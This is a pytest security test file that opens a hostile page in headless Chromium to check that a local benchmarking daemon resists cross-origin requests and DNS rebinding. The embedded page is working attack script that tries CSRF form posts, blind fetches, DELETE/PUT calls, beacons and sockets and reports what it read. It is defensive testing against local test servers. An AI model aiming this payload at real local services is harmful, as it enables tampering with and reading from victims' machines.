# SPDX-License-Identifier: Apache-2.0
"""A real Chromium on a page of somebody else: it changes nothing here and reads no byte.

evil.test is a server of ours at a port of its own; rebind.test is the name of that server first and of the
daemon then, as far as the browser can tell (both are 127.0.0.1).
"""
import http.server
import json
import os
import shutil
import subprocess
import threading

import pytest

from conftest import PATIENCE, fake_bench_env

CHROMIUM = next((p for p in map(shutil.which, ("chromium", "chromium-browser", "google-chrome")) if p), None)
pytestmark = pytest.mark.skipif(not CHROMIUM, reason="there is no chromium to try it with")
SPEC = '{"benchmark":"latency","size":"1","cpus":"0"}'

# Tries everything a page can; says what it could read.
PAGE = """<!doctype html><body><iframe name="sink"></iframe><iframe id="frame" src="%(daemon)s/"></iframe>
<img id="img" src="%(daemon)s/v1/runs/1/matrix.svg"><script src="%(daemon)s/web/main.js" onload="window.scriptRead = true"></script>
<link rel="stylesheet" href="%(daemon)s/web/style.css">
<form id="form" method="post" enctype="text/plain" target="sink" action="%(daemon)s/v1/runs">
<input name='%(spec)s' value=''></form>
<script>
const d = "%(daemon)s", spec = '%(spec)s', read = [], wait = (ms) => new Promise((r) => setTimeout(r, ms));
async function attempt(name, call) {
  try {
    const answer = await Promise.race([call(), wait(8000).then(() => { throw 0; })]);
    if (answer && answer.type !== "opaque") read.push(name + ": " + answer.status + " " + (await answer.text()).slice(0, 60));
  } catch (e) { }
}
async function all() {
  document.getElementById("form").submit();
  const json = { "Content-Type": "application/json" };
  await attempt("get", () => fetch(d + "/v1/runs"));
  await attempt("get blind", () => fetch(d + "/v1/runs", { mode: "no-cors" }));
  await attempt("post", () => fetch(d + "/v1/runs", { method: "POST", headers: json, body: spec }));
  await attempt("post blind", () => fetch(d + "/v1/runs", { method: "POST", mode: "no-cors", body: spec }));
  await attempt("post as json, blind", () => fetch(d + "/v1/runs", { method: "POST", mode: "no-cors",
    body: new Blob([spec], { type: "application/json" }) }));
  await attempt("beacon", async () => { navigator.sendBeacon(d + "/v1/runs", new Blob([spec], { type: "text/plain" })); });
  await attempt("cancel", () => fetch(d + "/v1/runs/1/cancel", { method: "POST", mode: "no-cors" }));
  await attempt("delete", () => fetch(d + "/v1/runs/1", { method: "DELETE" }));
  await attempt("put", () => fetch(d + "/v1/runs/1/label", { method: "PUT", headers: json, body: '{"label":"evil"}' }));
  await attempt("events", () => new Promise((good, bad) => { const e = new EventSource(d + "/v1/runs/1/events");
    e.onmessage = e.onopen = () => good({ status: "open", text: async () => "" }); e.onerror = () => bad(); }));
  await attempt("socket", () => new Promise((good, bad) => { const s = new WebSocket(d.replace("http", "ws") + "/v1/runs");
    s.onopen = () => good({ status: "open", text: async () => "" }); s.onerror = () => bad(); }));
  if (document.getElementById("img").naturalWidth) read.push("img");
  if (window.scriptRead) read.push("script");
  try { for (const s of document.styleSheets) if (s.cssRules.length) read.push("style"); } catch (e) { }
  try { if (document.getElementById("frame").contentDocument.title === "numaprobe") read.push("frame"); } catch (e) { }
  await fetch("/result", { method: "POST", body: JSON.stringify(read) });
}
addEventListener("load", all);
</script>"""


class Evil(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), Handler)
        self.page, self.result, self.done = "", None, threading.Event()
        threading.Thread(target=self.serve_forever, daemon=True).start()


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = self.server.page.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        self.server.result = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.send_response(204)
        self.end_headers()
        self.server.done.set()

    def log_message(self, *args):
        pass


@pytest.fixture
def evil():
    server = Evil()
    yield server
    server.shutdown()
    server.server_close()


def visit(evil, url, profile):
    """Opens the page, waits until it has told what it could read, and closes the browser."""
    rules = "MAP evil.test 127.0.0.1, MAP rebind.test 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost"
    browser = subprocess.Popen(
        [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--disable-sync",
         f"--host-resolver-rules={rules}", f"--user-data-dir={profile}", "--remote-debugging-port=0", url],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL, start_new_session=True)
    try:
        assert evil.done.wait(PATIENCE), "the page did not get to its end"
    finally:
        os.killpg(browser.pid, 9)
        browser.wait(PATIENCE)
    return evil.result


@pytest.fixture
def victim(make_daemon):
    """The most open daemon there is: anybody on the machine may do everything. One run is there."""
    daemon = make_daemon(fake_bench_env())
    daemon.run(size="1", cpus="0")
    return daemon


def state(daemon):
    return daemon.get("/v1/runs").json, daemon.get("/v1/baselines").json


def test_the_page_finds_an_open_door(evil, tmp_path):
    """The control: against a server that lets everybody in, the same page reads and changes."""
    asked = []

    class Open(Handler):
        def do_GET(self):
            self.answer()

        def do_POST(self):
            self.answer()

        do_OPTIONS = do_PUT = do_DELETE = do_POST

        def answer(self):
            asked.append(self.command)
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            self.send_response(200)
            for name in ("Origin", "Headers", "Methods"):
                self.send_header("Access-Control-Allow-" + name, {"Origin": "*", "Headers": "*", "Methods": "PUT, DELETE"}[name])
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"ok")

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Open)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    evil.page = PAGE % {"daemon": f"http://127.0.0.1:{server.server_port}", "spec": SPEC}
    read = visit(evil, f"http://evil.test:{evil.server_port}/", tmp_path / "profile")
    server.shutdown()
    server.server_close()
    assert any(r.startswith("get: 200 ok") for r in read) and any(r.startswith("delete: 200") for r in read), read
    assert {"GET", "POST", "PUT", "DELETE"} <= set(asked)


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_another_origin(victim, evil, tmp_path, name):
    before = state(victim)
    evil.page = PAGE % {"daemon": f"http://{name}:{victim.port}", "spec": SPEC}
    assert visit(evil, f"http://evil.test:{evil.server_port}/", tmp_path / "profile") == []
    assert state(victim) == before


def test_rebinding(victim, evil, tmp_path):
    """The page's own name leads to the daemon now: to the browser it is the same site, Host tells."""
    before = state(victim)
    evil.page = PAGE % {"daemon": f"http://rebind.test:{victim.port}", "spec": SPEC}
    assert visit(evil, f"http://rebind.test:{evil.server_port}/", tmp_path / "profile") == []
    assert state(victim) == before
    # The page of the daemon under the false name: what a rebound fetch would read is the refusal alone.
    shown = subprocess.run([CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--dump-dom",
                            "--host-resolver-rules=MAP rebind.test 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
                            f"--user-data-dir={tmp_path}/other", f"http://rebind.test:{victim.port}/v1/runs"],
                           capture_output=True, text=True, timeout=PATIENCE, stdin=subprocess.DEVNULL).stdout
    assert "/problems/misdirected" in shown and "latency" not in shown
